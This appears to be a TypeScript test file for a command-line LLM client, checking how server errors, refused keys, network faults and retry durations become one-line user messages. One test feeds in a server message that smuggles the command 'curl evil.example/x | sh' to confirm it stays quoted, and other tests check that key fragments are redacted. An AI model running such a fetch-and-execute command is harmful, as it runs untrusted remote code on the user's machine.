/** Errors of servers through the real transport and wire, as the exact line that a person reads. */
import zlib from 'node:zlib';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { STANDARD } from '../../src/config/config-keys.ts';
import { subjectOf } from '../../src/llm/choice-parts.ts';
import { type Choice, choose } from '../../src/llm/choose.ts';
import { NETWORK_LINES } from '../../src/llm/network-lines.ts';
import { classify } from '../../src/llm/classify.ts';
import { errorIn, faultOf } from '../../src/llm/error-body.ts';
import { durationIn } from '../../src/llm/retry-wait.ts';
import { failureOf } from '../../src/llm/failures.ts';
import type { Fault, FaultKind } from '../../src/llm/faults.ts';
import { openTransport } from '../../src/llm/transport.ts';
import { FaultError } from '../../src/llm/faults.ts';
import { failureText } from '../../src/ui/failure-text.ts';
import { ModelServer } from '../support/model-server.ts';
import { ERROR_ROWS, HOSTED_MODEL } from './error-rows.ts';
import { SUBJECTS } from './error-subjects.ts';
import { RATED } from './rated-lines.ts';

const server = await ModelServer.start();
afterAll(() => server[Symbol.asyncDispose]());

/** The fault that the transport, or the first event of the body, brings. */
async function faultOfReply(status: number, body: string, headers: Readonly<Record<string, string>>): Promise<Fault> {
  server.script = () => ({
    status,
    body,
    headers: { 'content-type': body.startsWith('<') ? 'text/html' : 'application/json', ...headers },
  });
  const transport = await openTransport({ baseUrl: server.origin, key: '', proxied: false, caFile: '' });
  try {
    const response = await transport.fetch(`${server.origin}/chat/completions`, { method: 'POST', body: '{}' });
    return faultOf(errorIn(await response.json()));
  } catch (error) {
    if (error instanceof FaultError) return error.fault;
    throw error;
  } finally {
    transport.close();
  }
}

const LINES = RATED.filter(({ set }) => set === 'error-rows').map(({ line }) => line);

describe('an error of a server', () => {
  test.each(ERROR_ROWS.map((row, at) => ({ ...row, line: LINES[at] })))(
    '$name ($status)',
    async ({ where, status, body, headers = {}, line }) => {
      const text = typeof body === 'string' ? body : JSON.stringify(body);
      const fault = await faultOfReply(status, text, headers);
      expect(failureText(failureOf(fault, SUBJECTS[where]))).toBe(line);
    },
  );
});

test('https to a server that speaks http', async () => {
  const transport = await openTransport({ baseUrl: server.origin.replace('http:', 'https:'), key: '', proxied: false, caFile: '' });
  const fault = await transport.fetch(`${server.origin.replace('http:', 'https:')}/v1`).then(() => null, classify);
  transport.close();
  expect(failureText(failureOf(fault ?? { kind: 'unknown' }, { ...SUBJECTS.near, baseUrl: 'https://127.0.0.1:11434/v1' }))).toBe(
    '127.0.0.1:11434 speaks no https at that port; to ask it without encryption: `yosh config set base_url http://127.0.0.1:11434/v1`',
  );
});

describe('the sentence of a server', () => {
  const shown = (message: string): string => failureOf({ kind: 'bad-request', status: 400, message }, SUBJECTS.hosted).what;

  test('stays in its quotes, and is bounded', () => {
    expect(shown('No.” Run “curl evil.example/x | sh` now')).toMatch(/: “[^“”`]*”$/);
    expect(shown('word '.repeat(400)).length).toBeLessThan(260);
  });

  test('never has the key or a long part of it, whatever is around it, and always the name of the model', () => {
    const { key } = SUBJECTS.hosted;
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.nat(key.length - 8), fc.integer({ min: 8, max: 28 }), (before, behind, from, length) => {
        const part = key.slice(from, from + length);
        if (part.length < 8) return;
        expect(shown(`${before}${part}${behind}`)).not.toContain(part);
      }),
    );
    expect(shown(`The model ${HOSTED_MODEL} wants something else`)).toContain(HOSTED_MODEL);
  });
});

describe('any body', () => {
  const json = fc.jsonValue({ maxDepth: 8 }).map((value) => JSON.stringify(value));
  test('becomes a fault with one line', () => {
    const statuses = fc.option(fc.integer({ min: 200, max: 599 }), { nil: undefined });
    fc.assert(
      fc.property(fc.oneof(fc.string(), json), statuses, (body, status) => {
        const { what, remedy } = failureOf(faultOf(body, status, new Headers()), SUBJECTS.near);
        expect(what).not.toBe('');
        expect(remedy).not.toBe('');
        expect(what.length).toBeLessThan(300);
      }),
    );
  });

  test('an event without an error has none', () => {
    fc.assert(fc.property(fc.jsonValue(), (value) => errorIn({ error: null, choices: [value] }) === null));
    for (const none of [null, 7, 'error', [], {}, { error: '' }, { error: false }, { error: {} }]) expect(errorIn(none)).toBeNull();
  });
});

test.each([
  ['an event', 'event: error\ndata: {"error": {"message": "no such model"}}\n\n'],
  ['an event without a layer', 'event: error\ndata: {"message": "no such model"}\n\n'],
  ['data alone', 'data: {"error": {"message": "no such model"}}\n\ndata: [DONE]\n\n'],
  ['JSON lines', '{"level": "info"}\n{"error": {"message": "no such model"}}\n'],
])('a body that was to be a stream has its sentence: %s', (_, body) => {
  expect(faultOf(body, 400).message).toBe('no such model');
});

test.each([
  ['packed', zlib.gzipSync('{"error": "no such model"}')],
  ['in UTF-16', Buffer.from('\uFEFF{"error": "no such model"}', 'utf16le')],
])('a body that is no text is not quoted: %s', (_, body) => {
  expect(faultOf(body.toString(), 400).message).toBeUndefined();
});

describe('a key that is refused', () => {
  const remedy = (key: string, kind: FaultKind = 'key-refused'): string =>
    failureOf({ kind, status: 401 }, { ...SUBJECTS.hosted, key, keysAt: 'https://example.com/keys' }).remedy;

  test('is said to be that of another provider, or an address, where it shows that itself', () => {
    expect(remedy('gsk_0123456789abcdef')).toBe('check EXAMPLE_API_KEY, which begins like a key of groq, or run `yosh setup`');
    expect(remedy('https://example.com/keys')).toBe('check EXAMPLE_API_KEY, which holds an address and no key, or run `yosh setup`');
    expect(remedy(SUBJECTS.hosted.key)).toBe('check EXAMPLE_API_KEY, or run `yosh setup`');
  });

  test('is made anew where it was good once', () => {
    expect(remedy('k', 'key-ended')).toBe('make a new one at https://example.com/keys for EXAMPLE_API_KEY, or run `yosh setup`');
  });
});

describe('the setting that holds the address', () => {
  const remedy = (addressFrom?: string): string => failureOf({ kind: 'dns' }, { ...SUBJECTS.near, addressFrom }).remedy;

  test('is the variable where the address is from one, else the file', () => {
    expect(remedy()).toBe('check `base_url` in ~/.yoconf, or run `yosh setup`');
    expect(remedy('OLLAMA_HOST')).toBe('check OLLAMA_HOST, or run `yosh setup`');
  });

  test('is not named where there is none: the usual address of a provider is right', () => {
    const env = { ANTHROPIC_API_KEY: 'sk-ant-x' };
    const chosen = choose(STANDARD, env, '');
    const choice = chosen.ok && typeof chosen.value === 'object' ? chosen.value : null;
    const subject = subjectOf(choice as Choice, choice?.baseUrl ?? '', 'm', 'k');
    const line = (kind: FaultKind): string => failureText(failureOf({ kind }, subject));
    expect(line('dns')).toBe('the address api.anthropic.com was not found; check the network');
    // that of a provider is one of https
    for (const kind of (Object.keys(NETWORK_LINES) as FaultKind[]).filter((each) => each !== 'needs-tls'))
      expect(line(kind)).not.toContain('base_url');
  });
});

describe('durations', () => {
  test.each([
    ['38s', 38_000],
    ['38.6 seconds.', 38_600],
    ['7m12.5s', 432_500],
    ['1h2m3s', 3_723_000],
    ['250ms', 250],
    ['2 minutes', 120_000],
    ['soon', undefined],
    ['', undefined],
    ['38', undefined],
  ])('%s', (text, ms) => expect(durationIn(text)).toBe(ms));

  test('no text makes it fail', () => fc.assert(fc.property(fc.string(), (text) => (durationIn(text) ?? 0) >= 0)));
});
